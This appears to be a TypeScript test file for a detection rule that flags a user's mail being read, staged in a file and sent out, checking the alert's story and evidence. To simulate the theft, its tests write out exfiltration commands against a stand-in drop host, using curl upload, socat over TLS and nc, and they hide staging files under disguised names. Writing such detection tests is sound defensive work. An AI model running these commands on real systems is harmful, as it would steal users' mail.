import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Process } from '../an0656-phishing-attachment-executed/audit-records.test-support.ts';
import { HostLog, MINUTE } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
import { firesAt, scanLog, storyOf } from '../an0656-phishing-attachment-executed/stories.test-support.ts';
import type { Transfer } from './case.ts';
import { isToOwnMta, lookAt, whatWasDone } from './way-out.ts';

/** What clerk's shell does with the letters `a` and `b` of clerk, on a host that records reads, writes and connections. */
async function done(act: (shell: Process, a: string, b: string) => void) {
  const log = new HostLog();
  const [a, b] = [log.deliver(), log.deliver()];
  const shell = log.shell('clerk');
  shell.run('/usr/bin/vim notes.txt').write('/home/clerk/notes.txt');
  shell.run('/usr/bin/curl -s https://www.example.net/').connect('203.0.113.80', 443);
  log.wait(MINUTE);
  act(shell, a.path, b.path);
  return scanLog(log);
}
const staged = (alert: { readonly factors: readonly { readonly name: string; readonly evidence: string }[] }): string =>
  alert.factors.find(({ name }) => name === 'staged in a file')?.evidence ?? '';

test('of several that read a store in one session the story names the one whose copy left, and that copy', async () => {
  const alerts = await done((shell, a, b) => {
    shell.run(`/usr/bin/grep -l part ${a} ${b}`).read(a).read(b);
    shell.run(`/usr/bin/ripmime -i ${b} -d .`).read(b).write('/home/clerk/papers/textfile0');
    shell.run('/usr/bin/tar -czf /var/tmp/x.tgz Maildir').read(a).read(b).write('/var/tmp/x.tgz');
    shell
      .run('/usr/bin/curl -sT /var/tmp/x.tgz http://drop.example.net/')
      .read('/var/tmp/x.tgz')
      .connect('203.0.113.66', 80);
  });
  const alert = firesAt(alerts, 'AN1310', 'medium');
  assert.match(
    alert.story,
    /with tar, staged it in \/var\/tmp\/x\.tgz and sent it out with curl to http:\/\/drop\.example\.net\/\.$/,
  );
  assert.equal(staged(alert), '/var/tmp/x.tgz');
  assert.match(alert.factors.find(({ name }) => name === 'mail store read')?.evidence ?? '', /by tar, grep$/);
});

test('what went straight from the reader to the wire was staged nowhere, whatever else lies about', async () => {
  const alerts = await done((shell, a, b) => {
    shell.run(`/usr/bin/cp ${a} /home/clerk/papers/a.eml`).read(a).write('/home/clerk/papers/a.eml');
    shell.run('/home/clerk/bin/x').read(b).connect('203.0.113.66', 443);
  });
  const alert = firesAt(alerts, 'AN1310', 'medium');
  assert.match(alert.story, /read the mail store of clerk with x and sent it out with x to 203\.0\.113\.66:443\.$/);
  assert.equal(staged(alert), '/home/clerk/papers/a.eml');
});

test('what a program had open before it wrote what left is its own: the file by which it left is the stage', async () => {
  const alerts = await done((shell, a) => {
    const gpg = shell.run('/usr/bin/gpg --homedir /tmp -e -r x');
    gpg.write('/tmp/.#lk0x1f.ws1.77').write('/tmp/pubring.kbx');
    shell.run('/usr/bin/tar cf - Maildir').read(a);
    gpg.write('/var/tmp/private.log');
    shell
      .run('/usr/bin/socat -u FILE:/var/tmp/private.log OPENSSL:drop.example.net:443')
      .read('/var/tmp/private.log')
      .connect('203.0.113.66', 443);
  });
  const alert = firesAt(alerts, 'AN1310', 'medium');
  assert.match(alert.story, /with tar, staged it in \/var\/tmp\/private\.log and sent it out with socat/);
  assert.equal(staged(alert), '/var/tmp/private.log');
});

test('where nothing left, the story names the one who made the copy', async () => {
  const alerts = await done((shell, a) => {
    shell.run(`/usr/bin/grep -l part ${a}`).read(a);
    shell.run(`/usr/bin/cp ${a} /home/clerk/.cache/.m`).read(a).write('/home/clerk/.cache/.m');
  });
  assert.match(
    storyOf(alerts, 'AN1310').story,
    /with cp, staged it in \/home\/clerk\/\.cache\/\.m; no transfer was seen\.$/,
  );
});

test('what crontab had put in its place before the store was read holds nothing of it', async () => {
  const job = (shell: Process): void => {
    const crontab = shell.run('/usr/bin/crontab -').write('/var/spool/cron/crontabs/tmp.aBc123');
    crontab.rename('/var/spool/cron/crontabs/tmp.aBc123', '/var/spool/cron/crontabs/clerk');
  };
  const packed = (shell: Process, a: string): void => {
    const tar = shell.run('/usr/bin/tar -czf /var/tmp/x.tgz Maildir').read(a).write('/var/tmp/x.tgz');
    tar.exec('/usr/bin/curl -sT /var/tmp/x.tgz http://drop.example.net/').connect('203.0.113.66', 80);
  };
  const paths = (alert: { readonly entities: readonly { readonly kind: string; readonly value: string }[] }) =>
    alert.entities.filter(({ kind }) => kind === 'file').map(({ value }) => value);
  const before = await done((shell, a) => {
    job(shell);
    packed(shell, a);
  });
  assert.deepEqual(paths(firesAt(before, 'AN1310', 'medium')).slice(1), ['/var/tmp/x.tgz']);
  // Open still, and not yet in its place, it may get what is read.
  const open = await done((shell, a) => {
    shell.run('/usr/bin/crontab -').write('/var/spool/cron/crontabs/tmp.aBc123');
    packed(shell, a);
  });
  assert.ok(paths(firesAt(open, 'AN1310', 'medium')).includes('/var/spool/cron/crontabs/tmp.aBc123'));
});

test('the lock under which git keeps its index is no copy of mail; what its words or its shell call a lock is', async () => {
  const git = async (act: (git: Process) => void) =>
    done((shell, a) => {
      const one = shell.run('/usr/bin/git add -A', { cwd: '/home/clerk/notes' }).read(a);
      act(one.write('/home/clerk/notes/.git/index.lock'));
      one.rename('/home/clerk/notes/.git/index.lock', '/home/clerk/notes/.git/index');
    });
  assert.doesNotMatch((await git(() => {})).map(({ story }) => story).join(), /staged/);
  const object = '/home/clerk/notes/.git/objects/4b/tmp_obj_x1';
  assert.equal(staged(storyOf(await git(each => void each.write(object)), 'AN1310')), object);
  for (const act of [
    (shell: Process, a: string) =>
      void shell.run('/usr/bin/gpg -o /home/clerk/.x.lock -c').read(a).write('/home/clerk/.x.lock'),
    (shell: Process, a: string) =>
      void shell.run(`/usr/bin/cp ${a} /home/clerk/.x.lock`).read(a).write('/home/clerk/.x.lock'),
    (shell: Process, a: string) => void shell.fork().write('/home/clerk/.x.lock').exec(`/usr/bin/cat ${a}`).read(a),
    (shell: Process, a: string) => void shell.run('/home/clerk/bin/git add').read(a).write('/home/clerk/.x.lock'),
    (shell: Process, a: string) => void shell.run('/usr/bin/python3 -').read(a).write('/home/clerk/.x.lock'),
  ])
    assert.equal(staged(storyOf(await done(act), 'AN1310')), '/home/clerk/.x.lock');
});

test("mail that is handed to port 25 of this host is handed to this host's own mail server", async () => {
  const mailed = (...to: readonly (readonly [address: string, port: number])[]) =>
    done((shell, a) => {
      const script = shell.run('/usr/bin/python3 -').read(a);
      for (const [address, port] of to) script.connect(address, port);
    });
  const own = firesAt(await mailed(['127.0.0.1', 25], ['::1', 25]), 'AN1310', 'medium');
  assert.equal(own.title, "Mail of clerk read and handed to this host's own mail server");
  assert.match(own.story, /and handed it with python3 to this host's own mail server at 127\.0\.0\.1:25\.$/);
  assert.match(own.next.at(-1) ?? '', /log of the mail server at 127\.0\.0\.1:25/);
  const both = firesAt(await mailed(['127.0.0.1', 25], ['203.0.113.66', 25]), 'AN1310', 'medium');
  assert.equal(both.title, 'Mail of clerk read and sent out');
  assert.match(both.story, /and sent it out with python3 to 203\.0\.113\.66:25\.$/, 'the other host first');
  const words = await done((shell, a) => {
    shell.pipeline(`/usr/bin/cat ${a}`, '/usr/bin/nc localhost 25').forEach((stage, i) => {
      if (i === 0) stage.read(a);
      else stage.connect('127.0.0.1', 25);
    });
  });
  assert.match(firesAt(words, 'AN1310', 'medium').title, /handed to this host's own mail server$/);
  const tunnel = firesAt(await mailed(['127.0.0.1', 8025]), 'AN1310', 'medium');
  assert.match(tunnel.story, /and sent it out with python3 to 127\.0\.0\.1:8025\.$/);
});

test('only SMTP and submission on the loopback is the own mail server', () => {
  const of = (destination: string): boolean => isToOwnMta({ destination } as Transfer);
  for (const own of ['127.0.0.1:25', '127.0.1.1:465', '[::1]:587']) assert.equal(of(own), true, own);
  for (const own of ['smtp://localhost', 'localhost:25', 'smtps://127.0.0.1:465/']) assert.equal(of(own), true, own);
  for (const other of ['localhost', 'smtp://localhost:2525', 'smtp://localhost.example.net', 'http://localhost/'])
    assert.equal(of(other), false, other);
  const at = (pid: number, destination: string): Transfer => ({ pid, destination }) as Transfer;
  assert.equal(isToOwnMta(at(1, 'localhost'), [at(1, '127.0.0.1:25')]), true, 'its own connection says it');
  assert.equal(isToOwnMta(at(1, 'localhost'), [at(2, '127.0.0.1:25'), at(1, '127.0.0.1:8025')]), false);
  for (const other of ['127.0.0.1:22', '127.0.0.1:2525', '203.0.113.1:25', '[2001:db8::1]:25', ''])
    assert.equal(of(other), false, other);
});

test('what also waits for other hosts, or is only thought to be handed over, is told by that', () => {
  const transfer = (facts: Partial<Transfer>): Transfer =>
    ({ destination: '', servedAt: '', disk: '', program: '/usr/bin/x', ...facts }) as Transfer;
  const own = transfer({ destination: '127.0.0.1:25' });
  assert.equal(whatWasDone([own, transfer({})]), "handed to this host's own mail server");
  assert.equal(whatWasDone([own, transfer({ servedAt: '0.0.0.0:80' })]), 'sent out');
  assert.equal(whatWasDone([transfer({})]), 'sent out');
  assert.equal(lookAt(transfer({ destination: '203.0.113.1:25' }), []), 'Look for other traffic to 203.0.113.1:25.');
});
